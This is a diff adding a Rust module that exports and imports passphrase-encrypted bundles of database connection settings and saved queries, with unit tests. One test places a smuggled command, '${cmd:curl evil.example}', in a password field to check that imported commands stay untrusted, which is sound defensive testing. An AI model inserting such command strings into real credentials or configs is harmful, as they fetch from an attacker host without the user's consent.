@@ -0,0 +1,402 @@
+use anyhow::{anyhow, Result};
+use magic_crypt::MagicCrypt256;
+use serde::{Deserialize, Serialize};
+use sqlx::sqlite::SqlitePool;
+use sqlx::Row;
+use std::collections::HashMap;
+use uuid::Uuid;
+
+use crate::engine::types::config::ConnectionConfig;
+use crate::utils::crypto::{decrypt_with_passphrase, encrypt_with_passphrase, SealedData};
+
+use super::queries;
+
+pub const BUNDLE_VERSION: u32 = 1;
+
+#[derive(Debug, Serialize, Deserialize)]
+struct BundleEnvelope {
+    noir_bundle: u32,
+    #[serde(flatten)]
+    payload: SealedData,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct BundledQuery {
+    pub name: String,
+    pub query: String,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct Bundle {
+    pub created_at: i64,
+    pub secrets_included: bool,
+    pub connections: Vec<ConnectionConfig>,
+    pub saved_queries: Vec<BundledQuery>,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq)]
+pub enum ImportAction {
+    Add,
+    Merge,
+    Rename,
+    Skip,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct BundleEntry {
+    pub config: ConnectionConfig,
+    pub duplicate_of: Option<Uuid>,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct BundlePreview {
+    pub created_at: i64,
+    pub secrets_included: bool,
+    pub connections: Vec<BundleEntry>,
+    pub saved_queries: Vec<BundledQuery>,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+pub struct ImportSummary {
+    pub added: usize,
+    pub merged: usize,
+    pub skipped: usize,
+    pub saved_queries: usize,
+}
+
+pub async fn build_bundle(
+    pool: &SqlitePool,
+    key: MagicCrypt256,
+    ids: &[String],
+    include_secrets: bool,
+    include_saved_queries: bool,
+) -> Result<Bundle> {
+    let connections = queries::get_all_connections(pool, key)
+        .await?
+        .into_iter()
+        .filter(|c| ids.contains(&c.id.to_string()))
+        .map(|c| {
+            if include_secrets {
+                c
+            } else {
+                c.without_secrets()
+            }
+        })
+        .collect::<Vec<_>>();
+    if connections.is_empty() {
+        return Err(anyhow!("No connections selected for export"));
+    }
+    let saved_queries = match include_saved_queries {
+        true => get_saved_queries(pool).await?,
+        false => vec![],
+    };
+    Ok(Bundle {
+        created_at: chrono::Utc::now().timestamp(),
+        secrets_included: include_secrets,
+        connections,
+        saved_queries,
+    })
+}
+
+pub fn encode_bundle(bundle: &Bundle, passphrase: &str) -> Result<String> {
+    let payload = serde_json::to_string(bundle)?;
+    let envelope = BundleEnvelope {
+        noir_bundle: BUNDLE_VERSION,
+        payload: encrypt_with_passphrase(&payload, passphrase)?,
+    };
+    Ok(serde_json::to_string_pretty(&envelope)?)
+}
+
+pub fn decode_bundle(content: &str, passphrase: &str) -> Result<Bundle> {
+    let envelope: BundleEnvelope =
+        serde_json::from_str(content).map_err(|_| anyhow!("File is not a noir bundle"))?;
+    if envelope.noir_bundle > BUNDLE_VERSION {
+        return Err(anyhow!(
+            "Bundle version {} is not supported, please update noir",
+            envelope.noir_bundle
+        ));
+    }
+    if passphrase.is_empty() {
+        return Err(anyhow!("Passphrase cannot be empty"));
+    }
+    let payload = decrypt_with_passphrase(&envelope.payload, passphrase)
+        .map_err(|_| anyhow!("Wrong passphrase or corrupted bundle"))?;
+    serde_json::from_str(&payload).map_err(|_| anyhow!("Wrong passphrase or corrupted bundle"))
+}
+
+pub async fn preview_bundle(
+    pool: &SqlitePool,
+    key: MagicCrypt256,
+    bundle: Bundle,
+) -> Result<BundlePreview> {
+    let existing = queries::get_all_connections(pool, key).await?;
+    let connections = bundle
+        .connections
+        .into_iter()
+        .map(|config| BundleEntry {
+            duplicate_of: find_duplicate(&existing, &config).map(|c| c.id),
+            config,
+        })
+        .collect();
+    Ok(BundlePreview {
+        created_at: bundle.created_at,
+        secrets_included: bundle.secrets_included,
+        connections,
+        saved_queries: bundle.saved_queries,
+    })
+}
+
+/// Imports the bundle, applying the action chosen for each bundled connection id.
+/// Connections without an explicit action are added, or skipped if they duplicate
+/// an existing connection.
+pub async fn import_bundle(
+    pool: &SqlitePool,
+    key: MagicCrypt256,
+    bundle: Bundle,
+    actions: HashMap<Uuid, ImportAction>,
+) -> Result<ImportSummary> {
+    let mut existing = queries::get_all_connections(pool, key.clone()).await?;
+    let mut summary = ImportSummary::default();
+
+    for mut config in bundle.connections {
+        let duplicate = find_duplicate(&existing, &config).cloned();
+        let default_action = match duplicate {
+            Some(_) => ImportAction::Skip,
+            None => ImportAction::Add,
+        };
+        let action = actions.get(&config.id).copied().unwrap_or(default_action);
+        match (action, duplicate) {
+            (ImportAction::Skip, _) => summary.skipped += 1,
+            (ImportAction::Merge, Some(current)) => {
+                // secrets stripped from the bundle are kept from the local copy.
+                // Changed values may bring secret commands the user never trusted
+                let changed = config
+                    .credentials
+                    .iter()
+                    .any(|(k, v)| v.contains("${cmd:") || current.credentials.get(k) != Some(v));
+                let mut credentials = current.credentials.clone();
+                credentials.extend(config.credentials);
+                let mut merged = ConnectionConfig {
+                    credentials,
+                    name: current.name.clone(),
+                    color: current.color.clone(),
+                    ..config
+                };
+                merged.metadata.trust_commands = current.metadata.trust_commands && !changed;
+                queries::update_connection(pool, current.id.to_string(), &merged, key.clone())
+                    .await?;
+                summary.merged += 1;
+            }
+            (action, _) => {
+                // secret commands of a bundle don't run until the user trusts them
+                config.id = Uuid::new_v4();
+                config.metadata.trust_commands = false;
+                let names: Vec<&str> = existing.iter().map(|c| c.name.as_str()).collect();
+                if action == ImportAction::Rename || names.contains(&config.name.as_str()) {
+                    config.name = unique_name(&names, &config.name);
+                }
+                queries::add_connection(pool, &config, key.clone()).await?;
+                existing.push(config);
+                summary.added += 1;
+            }
+        }
+    }
+
+    let current_queries = get_saved_queries(pool).await?;
+    let mut names: Vec<String> = current_queries.iter().map(|q| q.name.clone()).collect();
+    for query in bundle.saved_queries {
+        if current_queries
+            .iter()
+            .any(|q| q.name == query.name && q.query == query.query)
+        {
+            continue;
+        }
+        let name = unique_name(
+            &names.iter().map(String::as_str).collect::<Vec<_>>(),
+            &query.name,
+        );
+        sqlx::query("INSERT INTO saved_queries (id, name, query) VALUES ($1, $2, $3)")
+            .bind(Uuid::new_v4().to_string())
+            .bind(&name)
+            .bind(&query.query)
+            .execute(pool)
+            .await?;
+        names.push(name);
+        summary.saved_queries += 1;
+    }
+
+    Ok(summary)
+}
+
+fn find_duplicate<'a>(
+    existing: &'a [ConnectionConfig],
+    config: &ConnectionConfig,
+) -> Option<&'a ConnectionConfig> {
+    existing
+        .iter()
+        .find(|c| c.dialect == config.dialect && c.endpoint() == config.endpoint())
+}
+
+fn unique_name(names: &[&str], name: &str) -> String {
+    if !names.contains(&name) {
+        return name.to_string();
+    }
+    (2..)
+        .map(|n| format!("{} ({})", name, n))
+        .find(|candidate| !names.contains(&candidate.as_str()))
+        .expect("Ran out of candidate names")
+}
+
+async fn get_saved_queries(pool: &SqlitePool) -> Result<Vec<BundledQuery>> {
+    let rows = sqlx::query("SELECT name, query FROM saved_queries ORDER BY created_at DESC")
+        .fetch_all(pool)
+        .await?;
+    Ok(rows
+        .iter()
+        .map(|row| BundledQuery {
+            name: row.get("name"),
+            query: row.get("query"),
+        })
+        .collect())
+}
+
+#[cfg(test)]
+mod test {
+    use std::collections::HashMap;
+
+    use anyhow::Result;
+    use magic_crypt::new_magic_crypt;
+    use sqlx::sqlite::{SqlitePool, SqlitePoolOptions};
+
+    use super::{
+        build_bundle, decode_bundle, encode_bundle, find_duplicate, import_bundle, unique_name,
+        Bundle, ImportAction,
+    };
+    use crate::{
+        database::queries,
+        engine::types::config::{ConnectionConfig, Credentials, Dialect, Metadata, Mode},
+    };
+
+    fn config(name: &str, host: &str) -> ConnectionConfig {
+        let credentials = Credentials::from([
+            ("host".to_string(), host.to_string()),
+            ("port".to_string(), "5432".to_string()),
+            ("user".to_string(), "app".to_string()),
+            ("password".to_string(), "secret".to_string()),
+        ]);
+        ConnectionConfig::new(
+            Dialect::Postgresql,
+            Mode::Host,
+            credentials,
+            name,
+            "blue",
+            Metadata::default(),
+        )
+        .unwrap()
+    }
+
+    async fn pool() -> Result<SqlitePool> {
+        let pool = SqlitePoolOptions::new()
+            .max_connections(1)
+            .connect("sqlite::memory:")
+            .await?;
+        sqlx::migrate!().run(&pool).await?;
+        Ok(pool)
+    }
+
+    #[test]
+    fn test_duplicates_and_names() {
+        let existing = vec![config("prod", "db.one"), config("staging", "db.two")];
+        let duplicate = find_duplicate(&existing, &config("other", "DB.ONE"));
+        assert_eq!(duplicate.map(|c| c.name.as_str()), Some("prod"));
+        assert!(find_duplicate(&existing, &config("prod", "db.three")).is_none());
+
+        assert_eq!(unique_name(&["prod", "prod (2)"], "prod"), "prod (3)");
+        assert_eq!(unique_name(&["prod"], "staging"), "staging");
+    }
+
+    #[tokio::test]
+    async fn test_bundle_roundtrip() -> Result<()> {
+        let key = new_magic_crypt!("app key", 256);
+        let source = pool().await?;
+        let one = config("prod", "db.one");
+        let mut two = config("prod", "db.two");
+        two.metadata.trust_commands = true;
+        queries::add_connection(&source, &one, key.clone()).await?;
+        queries::add_connection(&source, &two, key.clone()).await?;
+        let ids = [one.id.to_string(), two.id.to_string()];
+
+        let bundle = build_bundle(&source, key.clone(), &ids, false, false).await?;
+        let content = encode_bundle(&bundle, "passphrase")?;
+        assert!(!content.contains("db.one"));
+        assert!(decode_bundle(&content, "wrong").is_err());
+        assert!(decode_bundle("{}", "passphrase").is_err());
+        let decoded = decode_bundle(&content, "passphrase")?;
+        assert_eq!(decoded.connections.len(), 2);
+        assert!(!decoded.connections[0].credentials.contains_key("password"));
+
+        // the duplicate of db.one is skipped, the new connection gets a free name
+        let target = pool().await?;
+        queries::add_connection(&target, &config("prod", "db.one"), key.clone()).await?;
+        let summary = import_bundle(&target, key.clone(), decoded.clone(), HashMap::new()).await?;
+        assert_eq!((summary.added, summary.skipped), (1, 1));
+        let mut names: Vec<String> = queries::get_all_connections(&target, key.clone())
+            .await?
+            .into_iter()
+            .map(|c| c.name)
+            .collect();
+        names.sort();
+        assert_eq!(names, ["prod", "prod (2)"]);
+        let added = queries::get_all_connections(&target, key.clone())
+            .await?
+            .into_iter()
+            .find(|c| c.endpoint().0 == "db.two")
+            .unwrap();
+        assert!(!added.metadata.trust_commands);
+
+        // merging keeps the local password the bundle doesn't carry
+        let actions = HashMap::from([(one.id, ImportAction::Merge), (two.id, ImportAction::Skip)]);
+        let summary = import_bundle(&target, key.clone(), decoded, actions).await?;
+        assert_eq!((summary.merged, summary.skipped), (1, 1));
+        let merged = queries::get_all_connections(&target, key)
+            .await?
+            .into_iter()
+            .find(|c| c.endpoint().0 == "db.one")
+            .unwrap();
+        assert_eq!(merged.credentials["password"], "secret");
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn test_merge_commands() -> Result<()> {
+        let key = new_magic_crypt!("app key", 256);
+        let target = pool().await?;
+        let mut local = config("prod", "db.one");
+        local.metadata.trust_commands = true;
+        queries::add_connection(&target, &local, key.clone()).await?;
+
+        let mut bundled = config("prod", "db.one");
+        bundled.metadata.trust_commands = true;
+        bundled.credentials.insert(
+            "password".to_string(),
+            "${cmd:curl evil.example}".to_string(),
+        );
+        let bundle = Bundle {
+            created_at: 0,
+            secrets_included: true,
+            connections: vec![bundled.clone()],
+            saved_queries: vec![],
+        };
+        let actions = HashMap::from([(bundled.id, ImportAction::Merge)]);
+        let summary = import_bundle(&target, key.clone(), bundle, actions).await?;
+        assert_eq!(summary.merged, 1);
+        let merged = queries::get_all_connections(&target, key)
+            .await?
+            .into_iter()
+            .next()
+            .unwrap();
+        assert_eq!(merged.credentials["password"], "${cmd:curl evil.example}");
+        assert!(!merged.metadata.trust_commands);
+        Ok(())
+    }
+}